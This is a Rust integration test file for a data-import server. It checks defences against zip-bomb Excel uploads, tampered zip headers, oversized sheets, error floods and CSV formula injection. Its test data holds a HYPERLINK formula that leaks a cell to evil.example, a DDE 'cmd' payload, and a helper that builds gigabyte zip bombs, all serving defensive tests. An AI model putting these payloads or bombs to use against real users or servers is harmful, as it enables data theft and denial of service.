//! What an upload may cost the server (issue 13): Excel files that inflate to gigabytes are
//! refused from their zip directory before any part is inflated; a viewer's upload is refused
//! before it is received; a file of millions of bad rows is answered with the first of them and
//! their number; texts that a spreadsheet would run as formulas leave as text; a formula without
//! a computed value is a row error.

use std::io::{Cursor, Read, Write};
use std::time::Duration;

use reqwest::StatusCode;
use serde_json::{Value, json};
use zhibiao::domain::Period;
use zhibiao::domain::access::Role;
use zhibiao::transfer::xlsx::{Template, TemplateRow};

use crate::helpers::{Answer, TestApp, spawn_app};

const CSV: &str = "text/csv";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const MIB: u64 = 1024 * 1024;

async fn post_file(app: &TestApp, token: &str, query: &str, content_type: &str, body: Vec<u8>) -> Answer {
    crate::helpers::post_import(app, token, query, content_type, body).await
}

/// (row, message) of the errors of a dry run (`errors`) or of a refused import (`error.details`).
fn row_errors(answer: &Answer) -> Vec<(u64, String)> {
    let list = answer.body["errors"].as_array().or_else(|| answer.body["error"]["details"].as_array());
    list.unwrap_or_else(|| panic!("no errors in {}", answer.body))
        .iter()
        .map(|e| (e["row"].as_u64().unwrap(), e["message"].as_str().unwrap().to_string()))
        .collect()
}

/// town-a's template for 2023Q1 with gdp and rd_expenditure, as the server would send it.
fn template() -> Vec<u8> {
    let row = |code: &str, name: &str| TemplateRow {
        code: code.into(),
        name: name.into(),
        unit: "亿元".into(),
        how: "累计",
        decimals: 2,
        allow_negative: false,
        last_year: None,
    };
    zhibiao::transfer::xlsx::template(&Template {
        region: "town-a".into(),
        region_name: "甲镇".into(),
        period: "2023Q1".parse::<Period>().unwrap(),
        rows: vec![row("gdp", "地区生产总值"), row("rd_expenditure", "R&D经费支出")],
    })
    .unwrap()
}

/// What goes into a part: `head`, then `fill` repeated `times`, then `tail`.
struct Part<'a> {
    name: &'a str,
    head: &'a str,
    fill: u8,
    times: u64,
    tail: &'a str,
}

/// A copy of the workbook `xlsx` with `parts` written over (or added to) its parts, deflated:
/// a zip bomb when `times` is large, since a run of one byte deflates about a thousandfold.
fn with_parts(xlsx: &[u8], parts: &[Part<'_>]) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..archive.len() {
        let file = archive.by_index_raw(i).unwrap();
        let name = file.name().unwrap().to_string();
        if !parts.iter().any(|p| p.name == name) {
            out.raw_copy_file(file).unwrap();
        }
    }
    let chunk = |fill: u8| vec![fill; MIB as usize];
    for part in parts {
        let size = (part.head.len() + part.tail.len()) as u64 + part.times;
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .compression_level(Some(9))
            .large_file(size > u64::from(u32::MAX));
        out.start_file(part.name, options).unwrap();
        out.write_all(part.head.as_bytes()).unwrap();
        let block = chunk(part.fill);
        let mut left = part.times;
        while left > 0 {
            let n = left.min(MIB);
            out.write_all(&block[..n as usize]).unwrap();
            left -= n;
        }
        out.write_all(part.tail.as_bytes()).unwrap();
    }
    out.finish().unwrap().into_inner()
}

const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#;
const SHEET_TAIL: &str = "</sheetData></worksheet>";

/// (status, code, message) of an answer.
fn refusal(answer: &Answer) -> (StatusCode, String, String) {
    let text = |k: &str| answer.body["error"][k].as_str().unwrap_or_default().to_string();
    (answer.status, text("code"), text("message"))
}

#[tokio::test]
async fn an_excel_file_whose_sheet_inflates_to_a_gigabyte_of_spaces_is_refused_before_it_is_inflated() {
    let app = spawn_app().await.with_small_world().await;
    let sheet =
        Part { name: "xl/worksheets/sheet1.xml", head: SHEET_HEAD, fill: b' ', times: 1024 * MIB, tail: SHEET_TAIL };
    let bomb = with_parts(&template(), &[sheet]);
    assert!(bomb.len() < 2 * MIB as usize, "a bomb is small: {} bytes", bomb.len());
    let answer = post_file(&app, &app.admin.clone(), "?dry_run=true", XLSX, bomb).await;
    assert_eq!(
        refusal(&answer),
        (
            StatusCode::PAYLOAD_TOO_LARGE,
            "too_large".into(),
            "工作簿中的“xl/worksheets/sheet1.xml”解压后有1024.0 MB，超过单个部件的上限32.0 MB；\
             请上传从系统下载并填好的填报模板"
                .into()
        )
    );
}

#[tokio::test]
async fn an_excel_file_whose_shared_strings_inflate_to_hundreds_of_megabytes_is_refused_even_for_a_viewer() {
    let app = spawn_app().await.with_small_world().await;
    let strings = Part {
        name: "xl/sharedStrings.xml",
        head: r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>"#,
        fill: b'a',
        times: 256 * MIB,
        tail: "</t></si></sst>",
    };
    let bomb = with_parts(&template(), &[strings]);
    let answer = post_file(&app, &app.admin.clone(), "", XLSX, bomb.clone()).await;
    let (status, code, message) = refusal(&answer);
    assert_eq!((status, code.as_str()), (StatusCode::PAYLOAD_TOO_LARGE, "too_large"), "{}", answer.body);
    assert!(message.starts_with("工作簿中的“xl/sharedStrings.xml”解压后有256.0 MB"), "{message}");
    // a viewer is refused for who they are, before the file is looked at
    let viewer = app.add_user("guest", Role::Viewer, &[]);
    let answer = post_file(&app, &viewer, "", XLSX, bomb).await;
    assert_eq!(
        refusal(&answer),
        (StatusCode::FORBIDDEN, "forbidden".into(), "用户“guest”是只读用户，不能导入数据".into())
    );
}

#[tokio::test]
async fn parts_each_within_bounds_that_inflate_beyond_the_total_are_refused() {
    let app = spawn_app().await.with_small_world().await;
    let names = ["docProps/a.xml", "docProps/b.xml", "docProps/c.xml"];
    let parts: Vec<Part> =
        names.iter().map(|name| Part { name, head: "<a>", fill: b' ', times: 30 * MIB, tail: "</a>" }).collect();
    let answer = post_file(&app, &app.admin.clone(), "", XLSX, with_parts(&template(), &parts)).await;
    let (status, _, message) = refusal(&answer);
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{}", answer.body);
    assert!(message.starts_with("工作簿解压后共有90.0 MB，超过上限64.0 MB"), "{message}");
}

#[tokio::test]
async fn a_part_that_inflates_past_its_declared_size_is_cut_off_there() {
    let app = spawn_app().await.with_small_world().await;
    let sheet =
        Part { name: "xl/worksheets/sheet1.xml", head: SHEET_HEAD, fill: b' ', times: 200 * MIB, tail: SHEET_TAIL };
    let mut bomb = with_parts(&template(), &[sheet]);
    // declare 4 KiB in the local and the central header: the zip reader stops there
    let name = b"xl/worksheets/sheet1.xml";
    for (signature, size_at) in [(&b"PK\x03\x04"[..], 22), (&b"PK\x01\x02"[..], 24)] {
        let name_at = if signature[2] == 3 { 30 } else { 46 };
        let header = (0..bomb.len() - name_at - name.len())
            .find(|&i| bomb[i..].starts_with(signature) && bomb[i + name_at..].starts_with(name))
            .unwrap();
        bomb[header + size_at..header + size_at + 4].copy_from_slice(&4096u32.to_le_bytes());
    }
    let answer = post_file(&app, &app.admin.clone(), "", XLSX, bomb).await;
    assert_eq!(
        refusal(&answer),
        (
            StatusCode::BAD_REQUEST,
            "malformed".into(),
            "文件不是Excel工作簿（.xlsx）：无法读取，请上传从系统下载并填好的填报模板".into()
        )
    );
}

#[tokio::test]
async fn a_sheet_of_too_many_cells_or_too_many_declared_rows_is_refused() {
    let app = spawn_app().await.with_small_world().await;
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for row in 0..30_000 {
        for col in 0..7 {
            sheet.write_number(row, col, 1.0).unwrap();
        }
    }
    let answer = post_file(&app, &app.admin.clone(), "", XLSX, book.save_to_buffer().unwrap()).await;
    assert_eq!(
        refusal(&answer),
        (
            StatusCode::PAYLOAD_TOO_LARGE,
            "too_large".into(),
            "工作表的单元格超过200000个；填报模板每个指标一行，请上传从系统下载并填好的填报模板".into()
        )
    );
    // two cells at opposite corners: a sheet of 17 billion cells if read as a table
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "地区代码").unwrap();
    sheet.write_number(1_048_575, 16_383, 1.0).unwrap();
    let answer = post_file(&app, &app.admin.clone(), "", XLSX, book.save_to_buffer().unwrap()).await;
    assert_eq!(
        refusal(&answer),
        (
            StatusCode::PAYLOAD_TOO_LARGE,
            "too_large".into(),
            "工作表声明的范围有1048576行，超过上限100000行；请上传从系统下载并填好的填报模板".into()
        )
    );
}

/// The status line and body of an HTTP/1.1 answer read from a raw socket.
fn read_answer(stream: &mut std::net::TcpStream) -> std::io::Result<(u16, String)> {
    let mut bytes = Vec::new();
    let mut buf = [0u8; 4096];
    let end = loop {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            return Err(std::io::Error::other("closed before the answer"));
        }
        bytes.extend_from_slice(&buf[..n]);
        if let Some(i) = bytes.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
    };
    let head = String::from_utf8_lossy(&bytes[..end]).to_string();
    let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let length: usize = head
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse().unwrap_or(0)))
        .unwrap_or(0);
    while bytes.len() < end + length {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            break;
        }
        bytes.extend_from_slice(&buf[..n]);
    }
    Ok((status, String::from_utf8_lossy(&bytes[end..]).to_string()))
}

#[tokio::test]
async fn a_viewer_is_refused_before_the_upload_is_received() {
    let app = spawn_app().await.with_small_world().await;
    let viewer = app.add_user("guest", Role::Viewer, &[]);
    let address = app.base.trim_start_matches("http://").to_string();
    let answer = tokio::task::spawn_blocking(move || {
        let mut stream = std::net::TcpStream::connect(address).unwrap();
        // a hang detector, not a timing: a server that waits for the body never answers
        stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        let declared = 50 * MIB;
        let head = format!(
            "POST /api/v1/imports HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {viewer}\r\n\
             Content-Type: text/csv\r\nContent-Length: {declared}\r\n\r\nregion,indicator,period,value\n"
        );
        stream.write_all(head.as_bytes()).unwrap();
        // the other 50 MiB never come
        read_answer(&mut stream)
    })
    .await
    .unwrap();
    let (status, body) = answer.expect("an answer while the body is still outstanding");
    assert_eq!(status, 403, "{body}");
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(body["error"]["message"], "用户“guest”是只读用户，不能导入数据");
}

#[tokio::test]
async fn a_file_of_thirty_thousand_identical_rows_is_answered_with_one_folded_error() {
    let app = spawn_app().await.with_small_world().await;
    let mut csv = String::from("region,indicator,period,value\n");
    for _ in 0..30_000 {
        csv.push_str("town-a,gdp,2023Q1,1\n");
    }
    let answer = post_file(&app, &app.admin.clone(), "", CSV, csv.into_bytes()).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
    assert_eq!(answer.body["error"]["message"], "文件有29999处错误（见各行说明），没有导入任何数据");
    assert_eq!(
        row_errors(&answer),
        [(3, "第3、4、5行等共29999行：与第2行重复：同一地区、时期和指标只能有一个数值".to_string())]
    );
    assert_eq!(app.get_as_admin("/api/v1/values?region=town-a&period=2023Q1").await.body, json!([]));
}

#[tokio::test]
async fn a_file_of_many_different_errors_lists_the_first_two_hundred_and_counts_them_all() {
    let app = spawn_app().await.with_small_world().await;
    let mut csv = String::from("region,indicator,period,value\n");
    for i in 0..1500 {
        csv.push_str(&format!("town-a,gdp,2023Q1,x{i}\n"));
    }
    let answer = post_file(&app, &app.admin.clone(), "", CSV, csv.clone().into_bytes()).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
    assert_eq!(answer.body["error"]["message"], "文件有1500处错误，仅列出前200条（见各行说明），没有导入任何数据");
    let errors = row_errors(&answer);
    assert_eq!(errors.len(), 200);
    assert_eq!(errors[0], (2, "第2行：数值“x0”不是数字".to_string()));
    assert_eq!(errors[199], (201, "第201行：数值“x199”不是数字".to_string()));
    let dry = post_file(&app, &app.admin.clone(), "?dry_run=true", CSV, csv.into_bytes()).await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
    assert_eq!(
        (dry.body["error_count"].as_u64(), dry.body["errors"].as_array().map(Vec::len)),
        (Some(1500), Some(200))
    );
}

#[tokio::test]
async fn an_import_is_not_held_to_the_thousand_values_of_one_request() {
    let app = spawn_app().await.with_small_world().await;
    let mut csv = String::from("region,indicator,period,value\n");
    for i in 0..1001 {
        let code = format!("item_{i:04}");
        let body = json!({"code": code, "name": format!("指标{i}"), "unit": "个", "mode": "ytd"});
        let answer = app.post_indicator(body).await;
        assert_eq!(answer.status, StatusCode::CREATED, "{}", answer.body);
        csv.push_str(&format!("town-a,{code},2023Q1,{i}\n"));
    }
    let answer = post_file(&app, &app.admin.clone(), "", CSV, csv.into_bytes()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!((answer.body["created"].as_u64(), answer.body["error_count"].as_u64()), (Some(1001), Some(0)));
    let stored = app.get_as_admin("/api/v1/values?region=town-a&period=2023Q1").await;
    assert_eq!(stored.body.as_array().map(Vec::len), Some(1001));
}

#[tokio::test]
async fn comments_that_look_like_formulas_leave_as_text_and_come_back_as_they_were() {
    let app = spawn_app().await.with_small_world().await;
    let comments = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1 来自上报",
        "-比上季度少",
        "含=号的说明",
    ];
    let mut csv = String::from("region,indicator,period,value,comment\n");
    for (q, comment) in comments.iter().enumerate() {
        csv.push_str(&format!(
            "town-a,gdp,2023Q{},{},\"{}\"\n",
            q % 4 + 1,
            -1.5 + q as f64,
            comment.replace('"', "\"\"")
        ));
    }
    // a negative figure is a number: the indicator must allow it
    let answer = app
        .send_json(
            reqwest::Method::PUT,
            "/api/v1/indicators/gdp",
            &app.admin.clone(),
            &json!({"code": "gdp", "name": "地区生产总值", "unit": "亿元", "decimals": 2, "mode": "ytd", "allow_negative": true}),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let csv = csv.replace("town-a,gdp,2023Q1,2.5", "town-b,gdp,2023Q1,2.5");
    let answer = post_file(&app, &app.admin.clone(), "", CSV, csv.into_bytes()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);

    let resp =
        app.client.get(format!("{}/api/v1/exports?format=csv", app.base)).bearer_auth(&app.admin).send().await.unwrap();
    let exported = resp.text().await.unwrap();
    let lines: Vec<&str> = exported.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(
        lines,
        [
            "region,indicator,period,value,comment",
            "town-a,gdp,2023Q1,-1.5,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\"",
            "town-a,gdp,2023Q2,-0.5,'@SUM(1+1)*cmd|' /C calc'!A0",
            "town-a,gdp,2023Q3,0.5,'+1 来自上报",
            "town-a,gdp,2023Q4,1.5,'-比上季度少",
            "town-b,gdp,2023Q1,2.5,含=号的说明",
        ]
    );
    // and read back, the comments are what was typed
    let target = spawn_app().await.with_small_world().await;
    let answer = target
        .send_json(
            reqwest::Method::PUT,
            "/api/v1/indicators/gdp",
            &target.admin.clone(),
            &json!({"code": "gdp", "name": "地区生产总值", "unit": "亿元", "decimals": 2, "mode": "ytd", "allow_negative": true}),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let answer = post_file(&target, &target.admin.clone(), "", CSV, exported.into_bytes()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let mut back = Vec::new();
    for (region, period) in
        [("town-a", "2023Q1"), ("town-a", "2023Q2"), ("town-a", "2023Q3"), ("town-a", "2023Q4"), ("town-b", "2023Q1")]
    {
        let stored = target.get_as_admin(&format!("/api/v1/values?region={region}&period={period}")).await;
        back.push(stored.body[0]["comment"].as_str().unwrap_or_default().to_string());
    }
    assert_eq!(back, comments);
}

#[tokio::test]
async fn comments_with_control_characters_are_refused_naming_the_row_and_field() {
    let app = spawn_app().await.with_small_world().await;
    let csv = "region,indicator,period,value,comment\n\
               town-a,gdp,2023Q1,1,正常\n\
               town-a,rd_expenditure,2023Q1,1,\"带\u{1b}[31mESC\"\n\
               town-b,gdp,2023Q1,1,\"NUL\u{0}在中间\"\n";
    let answer = post_file(&app, &app.admin.clone(), "", CSV, csv.into()).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
    assert_eq!(
        row_errors(&answer),
        [
            (3, "第3行：备注：不能含有控制字符（第2个字符是U+001B）".to_string()),
            (4, "第4行：备注：不能含有控制字符（第4个字符是U+0000）".to_string()),
        ]
    );
    let body = json!({"region": "town-a", "period": "2023Q1", "values": [{"indicator": "gdp", "value": 1, "comment": "a\u{7}b"}]});
    let answer = app.send_json(reqwest::Method::PUT, "/api/v1/values", &app.admin.clone(), &body).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
    assert_eq!(answer.fields(), ["values[0].comment"]);
    assert_eq!(app.get_as_admin("/api/v1/values?region=town-a&period=2023Q1").await.body, json!([]));
}

/// The filled template with `=30+1.5` in F5 (gdp's value cell) and no value computed for it:
/// `<v></v>` (`empty_value`) or no `<v>` at all, as programs that do not compute write it.
/// (rust_xlsxwriter writes a computed value of 0, which is replaced here.)
fn template_with_formula(empty_value: bool) -> Vec<u8> {
    let blank = template();
    let mut book = calamine::open_workbook_from_rs::<calamine::Xlsx<_>, _>(Cursor::new(&blank[..])).unwrap();
    let range = calamine::Reader::worksheet_range_at(&mut book, 0).unwrap().unwrap();
    let mut out = rust_xlsxwriter::Workbook::new();
    let sheet = out.add_worksheet();
    for (r, c, cell) in range.used_cells() {
        if let calamine::Data::String(s) = cell {
            sheet.write_string(r as u32, c as u16, s).unwrap();
        }
    }
    sheet.write_formula(4, 5, "=30+1.5").unwrap();
    sheet.write_number(5, 5, 2.0).unwrap();
    let bytes = out.save_to_buffer().unwrap();
    let mut archive = zip::ZipArchive::new(Cursor::new(&bytes[..])).unwrap();
    let mut xml = String::new();
    archive.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut xml).unwrap();
    let written = r#"<c r="F5"><f>30+1.5</f><v>0</v></c>"#;
    assert!(xml.contains(written), "{xml}");
    let xml = xml.replace(
        written,
        if empty_value { r#"<c r="F5"><f>30+1.5</f><v></v></c>"# } else { r#"<c r="F5"><f>30+1.5</f></c>"# },
    );
    let part = Part { name: "xl/worksheets/sheet1.xml", head: &xml, fill: b' ', times: 0, tail: "" };
    with_parts(&bytes, &[part])
}

#[tokio::test]
async fn a_formula_without_a_computed_value_in_the_template_is_a_row_error_naming_the_cell() {
    let app = spawn_app().await.with_small_world().await;
    for empty_value in [true, false] {
        let answer = post_file(&app, &app.admin.clone(), "", XLSX, template_with_formula(empty_value)).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
        assert_eq!(
            row_errors(&answer),
            [(5, "第5行：F5是公式（=30+1.5），没有计算结果；请填写数值".to_string())],
            "<v></v>: {empty_value}"
        );
    }
    assert_eq!(app.get_as_admin("/api/v1/values?region=town-a&period=2023Q1").await.body, json!([]));
}
